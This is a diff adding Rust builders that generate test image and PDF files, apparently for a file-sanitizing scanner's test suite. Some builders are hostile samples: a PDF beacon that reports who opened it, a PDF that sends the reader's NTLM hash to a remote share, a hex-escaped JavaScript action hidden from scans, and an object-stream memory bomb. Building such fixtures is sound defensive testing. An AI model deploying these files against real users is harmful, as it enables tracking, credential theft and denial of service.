@@ -280,3 +280,210 @@ pub fn exe_bytes() -> Vec<u8> {
     out.extend_from_slice(&[0; 18]);
     out
 }
+
+/// A 16×16 PNG with a tEXt chunk "Comment" holding `text`.
+pub fn png_with_text(text: &[u8]) -> Vec<u8> {
+    let png = png(16, 16);
+    let after_ihdr = 8 + 25;
+    let mut data = b"Comment\0".to_vec();
+    data.extend_from_slice(text);
+    let mut out = png[..after_ihdr].to_vec();
+    out.extend_from_slice(&chunk(b"tEXt", &data));
+    out.extend_from_slice(&png[after_ihdr..]);
+    out
+}
+
+/// A greyscale PNG whose IDAT is zlib with stored (uncompressed) blocks and whose every row is
+/// `payload`: the payload's bytes appear in the compressed data as they are, as any short
+/// pattern does by chance in large images.
+pub fn png_with_payload_in_pixels(payload: &[u8]) -> Vec<u8> {
+    let (w, h) = (payload.len() as u32, 8u32);
+    let mut ihdr = w.to_be_bytes().to_vec();
+    ihdr.extend_from_slice(&h.to_be_bytes());
+    ihdr.extend_from_slice(&[8, 0, 0, 0, 0]);
+    let mut z = ZlibEncoder::new(Vec::new(), Compression::none());
+    for _ in 0..h {
+        z.write_all(&[0]).expect("compressing into memory");
+        z.write_all(payload).expect("compressing into memory");
+    }
+    let idat = z.finish().expect("compressing into memory");
+    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
+    out.extend_from_slice(&chunk(b"IHDR", &ihdr));
+    out.extend_from_slice(&chunk(b"IDAT", &idat));
+    out.extend_from_slice(&chunk(b"IEND", b""));
+    out
+}
+
+/// A `w`×`h` 1-bit greyscale PNG of pseudo-random noise: decoded to 8-bit grey and
+/// re-encoded, it grows several times.
+pub fn png_1bit_noise(w: u32, h: u32) -> Vec<u8> {
+    let mut ihdr = w.to_be_bytes().to_vec();
+    ihdr.extend_from_slice(&h.to_be_bytes());
+    ihdr.extend_from_slice(&[1, 0, 0, 0, 0]);
+    let mut state = 0x2545_F491_4F6C_DD1Du64;
+    let mut z = ZlibEncoder::new(Vec::new(), Compression::best());
+    let row_bytes = w.div_ceil(8) as usize;
+    for _ in 0..h {
+        let mut row = vec![0u8];
+        row.extend((0..row_bytes).map(|_| {
+            state ^= state << 13;
+            state ^= state >> 7;
+            state ^= state << 17;
+            (state >> 32) as u8
+        }));
+        z.write_all(&row).expect("compressing into memory");
+    }
+    let idat = z.finish().expect("compressing into memory");
+    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
+    out.extend_from_slice(&chunk(b"IHDR", &ihdr));
+    out.extend_from_slice(&chunk(b"IDAT", &idat));
+    out.extend_from_slice(&chunk(b"IEND", b""));
+    out
+}
+
+/// A 16×16 JPEG with a COM (comment) segment holding `text` right after SOI.
+pub fn jpeg_with_comment(text: &[u8]) -> Vec<u8> {
+    let jpeg = jpeg(16, 16);
+    let mut out = jpeg[..2].to_vec();
+    out.extend_from_slice(&[0xFF, 0xFE]);
+    out.extend_from_slice(&((text.len() + 2) as u16).to_be_bytes());
+    out.extend_from_slice(text);
+    out.extend_from_slice(&jpeg[2..]);
+    out
+}
+
+/// A PDF opening at its first page and then, chained by `/Next`, following a web link (a
+/// beacon telling the sender who opened the file and when).
+pub fn pdf_open_action_next_uri() -> Vec<u8> {
+    pdf_with("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://x/beacon) >> >>", &[])
+}
+
+/// A PDF opening at its first page and then, chained by `/Next`, at a document on a Windows
+/// share: opening it sends the reader's NTLM hash to the host.
+pub fn pdf_open_action_next_gotor() -> Vec<u8> {
+    pdf_with("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /GoToR /F (\\\\\\\\host\\\\s\\\\a.pdf) /D [0 /Fit] >> >>", &[])
+}
+
+/// A PDF opening at its first page and then, chained by `/Next`, at the same page again:
+/// harmless, but a chain is refused whatever it holds.
+pub fn pdf_open_action_next_goto() -> Vec<u8> {
+    pdf_with("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /GoTo /D [3 0 R /Fit] >> >>", &[])
+}
+
+/// A PDF with a link annotation to a web address on its page (the annotation is object 7).
+pub fn pdf_with_uri_link() -> Vec<u8> {
+    pdf_with(
+        "",
+        &["<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A << /S /URI /URI (https://example.org/) >> >>"],
+    )
+}
+
+/// A PDF with a document-level script (names hex-escaped, so no raw scan finds them) in an
+/// object that does not parse: lenient loading skips it, a repairing viewer may not.
+pub fn pdf_with_unparsable_script() -> Vec<u8> {
+    pdf_with(
+        "/Names << /J#61vaScript 7 0 R >>",
+        &["<< /Names [(init) << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>] /Broken [1 2 >>"],
+    )
+}
+
+/// A PDF whose encryption dictionary's key is hex-escaped in the trailer (`/Encr#79pt`).
+pub fn pdf_with_escaped_encrypt() -> Vec<u8> {
+    let plain = pdf();
+    let at = plain.windows(7).position(|w| w == b"trailer").expect("the sample has a trailer");
+    let tail = String::from_utf8(plain[at..].to_vec()).expect("the trailer is ASCII");
+    let mut out = plain[..at].to_vec();
+    out.extend_from_slice(
+        tail.replace("/Info 6 0 R", "/Info 6 0 R /Encr#79pt << /Filter /Standard /V 1 /R 2 >>").as_bytes(),
+    );
+    out
+}
+
+/// A PDF with a stream whose (binary) body holds `payload`, as images and fonts do.
+pub fn pdf_with_stream_holding(payload: &[u8]) -> Vec<u8> {
+    let body = String::from_utf8(payload.to_vec()).expect("the payload is text for the sample builder");
+    pdf_with("", &[&format!("<< /Length {} >>\nstream\n{body}\nendstream", payload.len())])
+}
+
+/// A valid PDF whose catalog, page tree and page are stored in an object stream, with a
+/// cross-reference stream, as pdfTeX, qpdf and Acrobat write them.
+pub fn pdf_with_object_stream() -> Vec<u8> {
+    let objects = [
+        "<< /Type /Catalog /Pages 2 0 R >>",
+        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
+    ];
+    let mut index = String::new();
+    let mut packed = String::new();
+    for (k, object) in objects.iter().enumerate() {
+        index.push_str(&format!("{} {} ", k + 1, packed.len()));
+        packed.push_str(object);
+        packed.push('\n');
+    }
+    object_stream_pdf(&index, &packed, objects.len())
+}
+
+/// A PDF of about 250 KB whose object stream lists 100 000 objects all at offset 0, where a
+/// 32 768-element array `[0 0 0 …]` is: a loader that clones each listed object would build
+/// 3.3 billion objects (hundreds of GB).
+pub fn pdf_object_stream_bomb() -> Vec<u8> {
+    let mut index = String::new();
+    for k in 1..=100_000 {
+        index.push_str(&format!("{k} 0 "));
+    }
+    let mut packed = "[".to_owned();
+    packed.push_str(&"0 ".repeat(32_768));
+    packed.push(']');
+    object_stream_pdf(&index, &packed, 100_000)
+}
+
+/// An object stream with `index` and `packed` objects (object 5, `/N n`) holding objects 1–3,
+/// a content stream (4) and a cross-reference stream (6) listing them.
+pub(crate) fn object_stream_pdf(index: &str, packed: &str, n: usize) -> Vec<u8> {
+    let mut z = ZlibEncoder::new(Vec::new(), Compression::default());
+    z.write_all(index.as_bytes()).expect("compressing into memory");
+    z.write_all(packed.as_bytes()).expect("compressing into memory");
+    let compressed = z.finish().expect("compressing into memory");
+    let content = b"0 0 m 100 100 l S";
+
+    let mut out = b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n".to_vec();
+    let content_at = out.len();
+    out.extend_from_slice(format!("4 0 obj\n<< /Length {} >>\nstream\n", content.len()).as_bytes());
+    out.extend_from_slice(content);
+    out.extend_from_slice(b"\nendstream\nendobj\n");
+    let objstm_at = out.len();
+    out.extend_from_slice(
+        format!(
+            "5 0 obj\n<< /Type /ObjStm /N {n} /First {} /Filter /FlateDecode /Length {} >>\nstream\n",
+            index.len(),
+            compressed.len()
+        )
+        .as_bytes(),
+    );
+    out.extend_from_slice(&compressed);
+    out.extend_from_slice(b"\nendstream\nendobj\n");
+    let xref_at = out.len();
+    let mut entries = Vec::new();
+    let mut entry = |kind: u8, field: u32, index: u16| {
+        entries.push(kind);
+        entries.extend_from_slice(&field.to_be_bytes());
+        entries.extend_from_slice(&index.to_be_bytes());
+    };
+    entry(0, 0, 65535);
+    for k in 0..3 {
+        entry(2, 5, k);
+    }
+    entry(1, content_at as u32, 0);
+    entry(1, objstm_at as u32, 0);
+    entry(1, xref_at as u32, 0);
+    out.extend_from_slice(
+        format!(
+            "6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length {} >>\nstream\n",
+            entries.len()
+        )
+        .as_bytes(),
+    );
+    out.extend_from_slice(&entries);
+    out.extend_from_slice(format!("\nendstream\nendobj\nstartxref\n{xref_at}\n%%EOF\n").as_bytes());
+    out
+}
